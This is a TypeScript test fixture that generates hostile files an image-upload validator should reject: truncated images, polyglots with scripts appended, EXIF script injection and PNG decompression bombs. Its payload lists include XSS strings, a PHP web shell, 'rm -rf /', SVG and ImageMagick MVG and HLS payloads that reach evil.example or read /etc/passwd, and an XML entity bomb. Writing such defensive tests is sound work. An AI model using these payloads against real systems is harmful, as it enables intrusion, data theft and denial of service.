import { crc32, deflateSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { disguisedFiles } from './disguised.pictures.ts'
import { picture } from './pictures.ts'

/** A file that must be refused as a picture, with the reason. */
export interface HostileFile {
  readonly title: string
  readonly bytes: Buffer
}

/** Returns a PNG whose header declares this size, with pixels that do not match it. */
function pngClaiming(width: number, height: number, pixels = deflateSync(Buffer.alloc(64))): Buffer {
  const chunk = (type: string, body: Buffer) => {
    const named = Buffer.concat([Buffer.from(type), body])
    const frame = Buffer.alloc(8)
    frame.writeUInt32BE(body.length, 0)
    frame.writeUInt32BE(crc32(named), 4)
    return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))])
}

const scripts = [
  '<script>alert(1)</script>',
  '<?php system($_GET["c"]); ?>',
  '<html><body onload=alert(1)>',
  '<!DOCTYPE html><title>x</title>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj',
  '<iframe src="https://evil.example"></iframe>',
  '#!/bin/sh\nrm -rf /\n',
  `PK\x05\x06${'\0'.repeat(18)}`,
  'Rar!\x1a\x07\x01\x00',
] as const

const texts = [
  '',
  ' ',
  '\0',
  'GIF',
  'hello',
  '{}',
  `BM${'\0'.repeat(60)}`,
  `II*\0${'\0'.repeat(60)}`,
  `\0\0\x01\0${'\0'.repeat(60)}`,
  `8BPS${'\0'.repeat(60)}`,
  '%!PS-Adobe-3.0 EPSF-3.0',
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
  '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><svg>&b;</svg>',
  'push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://evil.example"|ls "-la)\'\npop graphic-context',
  'MVG\0',
  '#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\nconcat:http://evil.example|file:///etc/passwd',
  '\x7fELF\x02\x01\x01',
  `MZ${'\0'.repeat(60)}`,
] as const

/** Files that must be refused: files that are not pictures, truncated ones, files with a second format, and bombs. */
export async function hostileFiles(): Promise<readonly HostileFile[]> {
  const formats = ['jpeg', 'png', 'webp', 'gif', 'avif'] as const
  const whole = await Promise.all(formats.map(async (format) => ({ format, bytes: await picture(220, 160, format) })))
  const cut = whole.flatMap(({ format, bytes }) =>
    [0.2, 0.4, 0.6].map((part) => ({
      title: `${format} cut off at ${part}`,
      bytes: bytes.subarray(0, Math.floor(bytes.length * part)),
    })),
  )
  const polyglots = whole.flatMap(({ format, bytes }) =>
    scripts.map((script) => ({
      title: `${format} with ${script.slice(0, 12)} behind it`,
      bytes: Buffer.concat([bytes, Buffer.from(script, 'latin1')]),
    })),
  )
  const commented = await Promise.all(
    scripts.slice(0, 5).map(async (script) => ({
      title: `jpeg with ${script.slice(0, 12)} in what a camera writes`,
      bytes: await sharp(await picture(80, 60))
        .withExif({ IFD0: { ImageDescription: script, Copyright: script } })
        .jpeg()
        .toBuffer(),
    })),
  )
  const signatures = whole.flatMap(({ format, bytes }) => [
    { title: `beginning of ${format} and nothing else`, bytes: bytes.subarray(0, 16) },
    { title: `beginning of ${format}, then zeros`, bytes: Buffer.concat([bytes.subarray(0, 16), Buffer.alloc(5000)]) },
    { title: `${format} packed with gzip`, bytes: gzipSync(bytes) },
    { title: `${format} after a blank`, bytes: Buffer.concat([Buffer.from(' '), bytes]) },
  ])
  const bombs = [
    ...[
      [100_000, 100_000],
      [65_535, 65_535],
      [50_001, 1000],
      [2_000_000_000, 1],
      [1, 2_000_000_000],
      [0, 0],
      [0, 100],
      [7072, 7072],
    ].map(([width = 0, height = 0]) => ({ title: `png of ${width} × ${height}`, bytes: pngClaiming(width, height) })),
    { title: 'png whose pixels unpack for ever', bytes: pngClaiming(4000, 4000, deflateSync(Buffer.alloc(8_000_000))) },
  ]
  const nothing = texts.map((text) => ({ title: `text “${text.slice(0, 20)}”`, bytes: Buffer.from(text, 'latin1') }))
  return [...nothing, ...cut, ...polyglots, ...commented, ...signatures, ...bombs, ...(await disguisedFiles())]
}
